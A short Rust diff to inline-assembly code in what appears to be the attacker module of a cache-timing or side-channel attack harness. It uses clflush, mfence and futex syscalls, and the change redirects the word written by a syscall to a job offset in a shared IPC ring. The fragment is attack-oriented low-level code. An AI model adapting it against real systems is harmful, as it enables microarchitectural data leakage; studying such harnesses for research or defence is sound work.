@@ -6,7 +6,7 @@
 
 use std::arch::{asm, global_asm};
 
-use ipc::job::{ARENA_OFFSET, COMPLETIONS_OFFSET, INDICES_OFFSET, SUBMISSIONS_OFFSET};
+use ipc::job::{ARENA_OFFSET, COMPLETIONS_OFFSET, INDICES_OFFSET, JOB_OFFSET, SUBMISSIONS_OFFSET};
 use ipc::layout::RING_BASE;
 
 use crate::attacker::Weapon;
@@ -190,7 +190,7 @@ global_asm!(
     "4:", "sub r8, 64", "jb 5f", "mov eax, [r8 + {arena}]", "jmp 4b", "5:",
     "clflush [r13]", "mfence",
     "inc r9d", "mov [r12], r9d",
-    "mov eax, 1", "mov edi, 3", "mov esi, {ring}", "mov edx, 8", "syscall",
+    "mov eax, 1", "mov edi, 3", "mov esi, {word}", "mov edx, 8", "syscall",
     "2:",
     "mov eax, [r12 + 128]", "cmp eax, ebx", "jne 3f",
     "mov eax, 202", "lea rdi, [r12 + 128]", "xor esi, esi", "mov edx, ebx", "xor r10d, r10d", "syscall",
@@ -210,7 +210,7 @@ global_asm!(
     submissions = const RING_BASE as usize + SUBMISSIONS_OFFSET,
     completions = const RING_BASE as usize + COMPLETIONS_OFFSET,
     arena = const RING_BASE as usize + ARENA_OFFSET,
-    ring = const RING_BASE,
+    word = const RING_BASE as usize + JOB_OFFSET,
 );
 
 /// How often a gadget tries, about.
